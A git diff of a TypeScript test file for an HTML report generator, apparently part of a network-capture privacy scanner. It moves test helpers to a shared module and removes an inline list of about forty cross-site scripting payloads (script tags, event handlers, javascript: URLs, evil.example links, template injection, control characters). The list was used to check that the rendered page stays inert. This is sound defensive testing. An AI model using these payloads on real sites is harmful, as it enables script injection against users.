@@ -1,6 +1,7 @@
 import { fileURLToPath } from 'node:url'
 import fc from 'fast-check'
 import { beforeAll, describe, expect, test } from 'vitest'
+import { filled, hostileKinds, hostileStrings, poisoned } from '../../../test/support/poisoned-facts.ts'
 import { profileOf, scanCapture } from '../../../test/support/scan-capture.ts'
 import { readWorldSources } from '../../../tools/build-world.ts'
 import { readEventFile } from '../../pipeline/event-files.ts'
@@ -53,121 +54,10 @@ function misnested(html: string): string[] {
   return [...wrong, ...open]
 }
 
-/** Fields whose few values the program itself chooses, and those that tie facts to each other. */
-const own = new Set(
-  'id recipient severity nameEvidence state scope confidence protection direction'
-    .concat(' identifier identifiers observations format event explainedBy family')
-    .split(' '),
-)
-
-/** The facts with `text` in every field that holds text. */
-function poisoned<T>(facts: T, text: string, key = ''): T {
-  if (typeof facts === 'string') return (own.has(key) ? facts : text) as T
-  if (Array.isArray(facts)) return facts.map((one: unknown) => poisoned(one, text, key)) as T
-  if (typeof facts !== 'object' || facts === null || Object.getPrototypeOf(facts) !== Object.prototype)
-    return facts
-  return Object.fromEntries(
-    Object.entries(facts).map(([name, one]) => [name, poisoned<unknown>(one, text, name)]),
-  ) as T
-}
-
-/** The start of the sample, with something in every list that a report prints. */
-function filled(): ScanResult {
-  const [recipient] = result.recipients
-  const claim = { country: 'NO', source: 'a list', builtOn: '2026-01-01' }
-  const address = {
-    address: '192.0.2.1',
-    scope: 'public' as const,
-    isCountryAgreed: false,
-    ambiguity: 'shared',
-    networks: [{ asn: 64_496, name: 'a network', source: 'a list' }],
-    countries: [claim, { ...claim, country: 'SE' }],
-  }
-  return {
-    ...result,
-    captures: result.captures.map((capture) => ({
-      ...capture,
-      application: 'a program',
-      comments: ['a comment'],
-      recorded: { device: { model: 'one' }, apps: [{ id: 'app', name: 'App', version: '1' }] },
-    })),
-    keys: { secrets: 1, connections: 1 } as NonNullable<ScanResult['keys']>,
-    apps: [{ id: 'a1', package: 'com.example', name: 'App', uid: 1, pids: [1], path: '/x' }],
-    recipients: result.recipients.map((one) => ({
-      ...one,
-      ambiguity: 'a doubt',
-      addresses: [address],
-      organisation: one.organisation ?? recipient?.organisation ?? null,
-      senders: ['a1'],
-    })),
-    observations: result.observations.slice(0, 70),
-    transmissions: result.transmissions.slice(0, 10).map((one) => ({ ...one, app: 'a1' })),
-    findings: result.findings.map((one) => ({ ...one, counterEvidence: ['against'] })),
-    dismissals: [
-      { identifier: 'imei', value: '000000000000000', reason: 'a placeholder', recipient: 'r8', count: 2 },
-    ] as unknown as ScanResult['dismissals'],
-    anomalies: [
-      {
-        capture: 0,
-        tally: {
-          code: { code: 'message.x.y', kind: 'malformed', sentence: 'odd' },
-          count: 1,
-          samples: [{ frame: 1, detail: 'a detail' }],
-        },
-      },
-    ] as unknown as ScanResult['anomalies'],
-  }
-}
-
 /** A frame that holds every byte, under the number of the first one shown. */
 const allBytes: ReadonlyMap<number, Uint8Array> = new Map([
   [198, Uint8Array.from({ length: 1024 }, (_, at) => at)],
 ])
-
-const hostile: readonly string[] = [
-  '<script>alert(1)</script>',
-  '"><script>alert(1)</script>',
-  "'><script>alert(1)</script>",
-  '</title><script>alert(1)</script>',
-  '</style><script>alert(1)</script>',
-  '</desc></svg><script>alert(1)</script>',
-  '</textarea><img src=x onerror=alert(1)>',
-  '"><img src=x onerror=alert(1)>',
-  '<img src="x" onerror="alert(1)">',
-  '<svg/onload=alert(1)>',
-  '<svg><animate onbegin=alert(1) attributeName=x>',
-  '<foreignObject><body onload=alert(1)>',
-  '<iframe src="javascript:alert(1)">',
-  '<iframe srcdoc="<script>alert(1)</script>">',
-  '<a href="javascript:alert(1)">x</a>',
-  '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x',
-  '<object data="data:text/html,<script>alert(1)</script>">',
-  '<embed src="//evil.example/x.swf">',
-  '<link rel=stylesheet href=//evil.example/x.css>',
-  '<meta http-equiv=refresh content="0;url=//evil.example">',
-  '<base href="//evil.example/">',
-  '<form action=//evil.example><button>x',
-  '<input autofocus onfocus=alert(1)>',
-  '<details open ontoggle=alert(1)>',
-  '<video><source onerror=alert(1)>',
-  '<body onload=alert(1)>',
-  '" onmouseover="alert(1)',
-  "' onfocus='alert(1)' autofocus='",
-  '" style="background:url(//evil.example)',
-  '<!--><script>alert(1)</script>-->',
-  '<![CDATA[><script>alert(1)</script>]]>',
-  '<?xml version="1.0"?><x/>',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '&#60;script&#62;alert(1)',
-  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
-  '\u202e\u0000\u001b[31m<b>',
-  '＜script＞alert(1)＜/script＞',
-  '${alert(1)}{{constructor.constructor("alert(1)")()}}',
-  '\ud800<script>\udc00',
-  '`><script>alert(1)</script>',
-  "$&$'$`<script>",
-  '\r\n\r\n<script>alert(1)</script>',
-]
 
 describe('the technical report', () => {
   test('has one heading of the first rank, no rank left out, and names for all parts', () => {
@@ -215,7 +105,7 @@ describe('the technical report', () => {
   })
 
   test('names the sources of a country, and says whether they agree', () => {
-    const shown = technicalReport(filled(), masked)
+    const shown = technicalReport(filled(result), masked)
     expect(shown).toContain('sources disagree: NO (a list), SE (a list). shared')
     expect(shown).toContain('AS64496 a network')
     expect(shown).toContain('against')
@@ -280,25 +170,29 @@ describe('the technical report', () => {
 })
 
 describe('whatever the capture held, the page stays inert', () => {
-  test.each(hostile)('%j in every field', (text) => {
+  test('there are enough kinds of hostile text', () => {
+    expect(new Set(hostileStrings).size).toBeGreaterThanOrEqual(300)
+  })
+
+  test.each(Object.keys(hostileKinds))('%s, in every field', (kind) => {
+    const facts = filled(result)
     for (const isRevealed of [false, true]) {
-      const options = { version: 'word', isRevealed, frames: [allBytes], world }
-      const harmless = structure(technicalReport(poisoned(filled(), 'word'), options))
-      const html = technicalReport(poisoned(filled(), text), {
-        version: text,
-        isRevealed,
-        frames: [allBytes],
-        world,
-      })
-      expect(structure(html)).toEqual(harmless)
-      expect(misnested(html)).toEqual([])
-      if (isRevealed) expect(html.split(escapeHtml(text)).length).toBeGreaterThan(100)
-      expect(['\u0000', '\u001b', '\u202e'].filter((character) => html.includes(character))).toEqual([])
+      const options = { version: 'word', isRevealed, frames: [allBytes] }
+      const harmless = structure(technicalReport(poisoned(facts, 'word'), options)).join('')
+      for (const text of hostileKinds[kind] ?? []) {
+        const html = technicalReport(poisoned(facts, text), { ...options, version: text })
+        expect(structure(html).join(''), text).toBe(harmless)
+        expect(misnested(html), text).toEqual([])
+        if (isRevealed) expect(html.split(escapeHtml(text)).length).toBeGreaterThan(60)
+        expect(html).not.toMatch(
+          /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/,
+        )
+      }
     }
   })
 
   test('any text at all', () => {
-    const facts = filled()
+    const facts = filled(result)
     const harmless = structure(technicalReport(poisoned(facts, 'word'), masked))
     fc.assert(
       fc.property(fc.string({ unit: 'binary', minLength: 1 }), (text) => {
